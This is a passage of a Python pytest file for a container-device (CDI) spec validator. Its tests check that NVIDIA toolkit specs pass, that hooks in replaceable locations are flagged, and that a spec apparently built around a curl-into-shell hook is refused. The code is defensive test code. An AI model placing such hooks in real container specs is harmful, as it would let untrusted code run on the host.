                f"{_LIB}/vdpau/libvdpau_nvidia.so.550.54.15",
                "/lib/firmware/nvidia/550.54.15/gsp_ga10x.bin", "/usr/bin/nvidia-smi",
                "/usr/bin/nvidia-persistenced", "/usr/bin/nvidia-cuda-mps-control",
                "/etc/vulkan/icd.d/nvidia_icd.json",
                "/usr/share/glvnd/egl_vendor.d/10_nvidia.json",
                "/usr/share/egl/egl_external_platform.d/15_nvidia_gbm.json",
                "/usr/share/nvidia/nvoptix.bin", "/usr/lib/xorg/modules/drivers/nvidia_drv.so")),
            *({"hostPath": p, "containerPath": p, "options": _IPC} for p in (
                "/run/nvidia-persistenced/socket", "/run/nvidia-fabricmanager/socket",
                "/tmp/nvidia-mps"))]},
}


@pytest.mark.parametrize("text", [CTK_GENERATE, CTK_TOOLKIT, CTK_IMEX, json.dumps(CTK_FULL)],
                         ids=["generate", "toolkit-installer", "imex", "full-host"])
def test_nvidia_ctk_specs_raise_no_alarm(text: str) -> None:
    found = cdi.validate_text(text, "nvidia.yaml")
    assert found == [], [str(f) for f in found]


@ROOT_ONLY
def test_what_aiplat_generates_raises_no_alarm(tmp_path: Path) -> None:
    """A full NVIDIA spec as `aiplat cdi generate` writes it (libraries, firmware, configs,
    sockets, the toolkit's hooks), read as on the host it describes (--root stripped)."""
    from test_devices_nvidia_files import driver_root

    root = tmp_path / "r"
    cache = driver_root(root)
    (root / "dev").mkdir()
    for name, major, minor in (("nvidia0", 195, 0), ("nvidiactl", 195, 255),
                               ("nvidia-uvm", 508, 0)):
        os.mknod(root / "dev" / name, 0o020666, os.makedev(major, minor))
    hook = root / "usr/bin/nvidia-cdi-hook"
    hook.parent.mkdir(parents=True, exist_ok=True)
    hook.write_text("#!/bin/sh\n")
    hook.chmod(0o755)
    gpus = [host.GpuIdentity(index=0, uuid="GPU-aaaa", minor=0)]
    specs = host.generate(str(root), gpus=gpus, mig_minors={}, ldcache=cache)
    text = json.dumps(specs["aiplat-nvidia.com-gpu.json"]).replace(str(root), "")
    doc = yaml.safe_load(text)
    assert doc["containerEdits"]["mounts"] and doc["containerEdits"]["hooks"]
    assert cdi.validate_text(text, "nvidia.json") == []


@ROOT_ONLY
def test_a_hook_others_can_replace_is_found_on_the_host(tmp_path: Path) -> None:
    """With a host, ownership and modes decide (a root-only pytest directory under /tmp is
    fine); without one, the place does."""
    def hook_at(rel: str) -> str:
        p = tmp_path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("#!/bin/true\n")
        p.chmod(0o755)
        return str(p)

    safe = hook_at("root-only/nvidia-cdi-hook")
    open_dir = hook_at("open/nvidia-cdi-hook")
    (tmp_path / "open").chmod(0o777)
    user_owned = hook_at("user/nvidia-cdi-hook")
    os.chown(user_owned, 1000, 1000)
    sticky = tmp_path / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)
    kept = hook_at("sticky/nvidia-cdi-hook")  # root's file in a sticky directory: kept
    h = host.RealHost()
    assert h.replaceable(safe) is None and h.replaceable(kept) is None
    assert h.replaceable(open_dir) == str(tmp_path / "open")
    assert h.replaceable(user_owned) == user_owned
    assert h.replaceable(str(sticky / "not-yet")) == str(sticky)  # anyone may create it
    for path, bad in ((safe, False), (open_dir, True), (user_owned, True)):
        errors = _errors(_hook(path, "nvidia-cdi-hook", "chmod", name="createContainer"), h)
        assert bool(errors) == bad, [str(f) for f in errors]
    assert any("lies under /tmp" in f.message  # no host: the place says it
               for f in _errors(_hook(safe, "nvidia-cdi-hook", name="createContainer")))


def test_verify_refuses_to_run_an_escaping_spec(tmp_path: Path) -> None:
    from aiplat.devices.verify import verify_spec
    from aiplat.errors import InputError

    f = tmp_path / "curl-sh.json"
    f.write_text(json.dumps(HOSTILE["hook-curl-sh"][0]))
    with pytest.raises(InputError, match="refusing to start containers") as e:
        verify_spec(str(f))
    assert "sh, a shell" in str(e.value) and "fix:" in str(e.value)


def test_a_spec_of_thousands_of_devices_does_not_stall_validation() -> None:
    """Leaks were looked up per device over every device (cubic): 3,000 devices took minutes.
    An alarm turns a stall into a failure; the leak between every pair is still found."""
    import signal

    def stop(signum: int, frame: object) -> None:
        raise TimeoutError("cdi validate still running after 60 s")

    n = 4000
    doc = _spec({"env": ["A=1"]})
    doc["devices"] = [{"name": f"d{i}", "containerEdits": {"deviceNodes": [
        {"path": f"/dev/acc{i}"}, {"path": "/dev/acc-shared"}]}} for i in range(n)]
    old = signal.signal(signal.SIGALRM, stop)
    signal.alarm(60)
    try:
        found = cdi.validate_text(json.dumps(doc), "many.json")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
    assert sum("belongs to device 'd0'" in f.message for f in found) == n - 1
